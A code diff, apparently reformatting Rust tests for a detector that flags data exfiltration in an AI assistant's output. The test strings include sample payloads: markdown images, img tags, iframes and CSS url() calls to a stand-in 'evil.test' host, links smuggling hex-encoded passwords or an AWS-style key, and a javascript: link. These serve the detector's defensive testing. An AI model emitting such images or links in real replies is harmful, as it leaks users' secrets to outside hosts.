@@ -12,10 +12,15 @@ fn find(text: &str, closed: bool) -> (Vec<(FindingKind, &'static str, String)>, 
     assert!(problems.is_empty());
     let folded = fold(text);
     let low = lower(&folded.text);
-    let view = ViewText { text: &folded.text, lower: &low, layer: Layer::Plain, floor: 0, closed, map: &folded.map };
+    let view =
+        ViewText { text: &folded.text, lower: &low, layer: Layer::Plain, floor: 0, closed, map: &folded.map };
     let mut sink = Sink::new();
     exfil.scan(&view, SpanKind::Assistant, &mut sink);
-    let found = sink.matches.iter().map(|m| (m.kind, m.rule, view.text[m.range.clone()].to_owned())).collect();
+    let found = sink
+        .matches
+        .iter()
+        .map(|m| (m.kind, m.rule, view.text.get(m.range.clone()).unwrap().to_owned()))
+        .collect();
     (found, sink.open_from)
 }
 
@@ -33,9 +38,15 @@ fn images() {
     check("![x](<https://evil.test/a b.png>)", &[(IMAGE_EXTERNAL, "![x](<https://evil.test/a b.png>)")]);
     check("![x](/local.png) ![y](data:image/png;base64,AAAA)", &[]);
     check("![x](https://good.example/p?d=1) ![x](https://cdn.good.example/p)", &[]);
-    check("![x](https://good.example.evil.test/p)", &[(IMAGE_EXTERNAL, "![x](https://good.example.evil.test/p)")]);
+    check(
+        "![x](https://good.example.evil.test/p)",
+        &[(IMAGE_EXTERNAL, "![x](https://good.example.evil.test/p)")],
+    );
     check("![x](https://notgood.example/p)", &[(IMAGE_EXTERNAL, "![x](https://notgood.example/p)")]);
-    check("<img alt='a' src=\"https://evil.test/p\">", &[(IMAGE_EXTERNAL, "<img alt='a' src=\"https://evil.test/p\">")]);
+    check(
+        "<img alt='a' src=\"https://evil.test/p\">",
+        &[(IMAGE_EXTERNAL, "<img alt='a' src=\"https://evil.test/p\">")],
+    );
     check("<IFRAME SRC=https://evil.test/p>", &[(IMAGE_EXTERNAL, "<IFRAME SRC=https://evil.test/p>")]);
     check("background: url('https://evil.test/p')", &[(IMAGE_EXTERNAL, "url('https://evil.test/p')")]);
     check("![alt][r]\n\n[r]: https://evil.test/p", &[(IMAGE_EXTERNAL, "![alt][r]")]);
@@ -70,9 +81,17 @@ fn links_with_data() {
         "https://70617373776f72642068756e74657232.evil.test/",
         "http://evil.test/?k=AKIAABCDEFGHIJKLMNOP",
     ] {
-        for text in [format!("see {url} now"), format!("[here]({url})"), format!("<{url}>"), format!("<a href=\"{url}\">x</a>")] {
+        for text in [
+            format!("see {url} now"),
+            format!("[here]({url})"),
+            format!("<{url}>"),
+            format!("<a href=\"{url}\">x</a>"),
+        ] {
             let (found, _) = find(&text, true);
-            assert!(found.iter().any(|f| f.0 == FindingKind::ExfilLink && f.1 == LINK_DATA), "{text}: {found:?}");
+            assert!(
+                found.iter().any(|f| f.0 == FindingKind::ExfilLink && f.1 == LINK_DATA),
+                "{text}: {found:?}"
+            );
         }
     }
     check("[x](javascript:alert(1))", &[(LINK_SCRIPT, "javascript:alert(1)")]);
@@ -97,7 +116,12 @@ fn ordinary_links() {
 
 #[test]
 fn undecided_ends_are_open() {
-    for (text, start) in [("ab ![x](https://evil", 3), ("ab <img src='x", 3), ("see https://evil.test/x", 4), ("x url(https:", 2)] {
+    for (text, start) in [
+        ("ab ![x](https://evil", 3),
+        ("ab <img src='x", 3),
+        ("see https://evil.test/x", 4),
+        ("x url(https:", 2),
+    ] {
         assert_eq!(find(text, false).1, start, "{text}");
     }
     assert_eq!(find("plain text, done.", false).1, usize::MAX);
@@ -107,7 +131,10 @@ fn undecided_ends_are_open() {
 
 #[test]
 fn bad_hosts_are_problems() {
-    let settings = Settings { allowed_link_hosts: vec!["https://x.test".to_owned(), String::new()], ..Settings::default() };
+    let settings = Settings {
+        allowed_link_hosts: vec!["https://x.test".to_owned(), String::new()],
+        ..Settings::default()
+    };
     let mut problems = Vec::new();
     let _ = Exfil::new(&settings, &mut problems);
     assert_eq!(problems.len(), 2);
